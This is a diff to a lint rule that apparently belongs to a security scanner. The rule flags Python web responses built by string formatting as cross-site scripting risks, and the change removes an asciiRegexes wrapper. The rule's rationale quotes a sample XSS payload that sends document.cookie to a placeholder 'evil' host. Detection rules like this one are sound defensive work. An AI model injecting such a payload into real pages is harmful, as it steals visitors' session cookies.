@@ -1,6 +1,6 @@
 import type { SgNode } from '@ast-grep/napi'
 import { defineRule, type RuleContext } from '../../../engine/rule.js'
-import { asciiRegexes, calleeText, nonConstant } from '../_utils/common.js'
+import { calleeText, nonConstant } from '../_utils/common.js'
 import { callee, external, imports, kwarg, positional, PY, shape, strValue, values } from '../_utils/py.js'
 import { HTML_SANITIZERS } from './no-unescaped-markup.js'
 
@@ -44,7 +44,7 @@ export default defineRule({
   rationale:
     'A response body built by string formatting bypasses template auto-escaping: a name such as <script>fetch("//evil/?c="+document.cookie)</script> in the data runs in the browser of whoever views the page (reflected or stored XSS, CWE-79).',
   safeAlternative: 'Render a template with auto-escaping (render_template, render) or escape every value with html.escape / markupsafe.escape before putting it into markup; return JSON with jsonify for data.',
-  match: asciiRegexes({
+  match: {
     rule: {
       any: [
         { kind: 'call', has: { field: 'function', regex: '(?:^|\\.)(?:HttpResponse|make_response|Response|HTMLResponse)$' } },
@@ -52,7 +52,7 @@ export default defineRule({
         { kind: 'return_statement', has: { any: [{ kind: 'binary_operator' }, { kind: 'string' }, { kind: 'identifier' }, { kind: 'subscript' }, { kind: 'call' }], stopBy: 'neighbor' }, inside: { kind: 'decorated_definition', stopBy: 'end' } },
       ],
     },
-  }),
+  },
   check(node, ctx) {
     if (node.kind() === 'return_statement') {
       const value = node.namedChildren()[0]
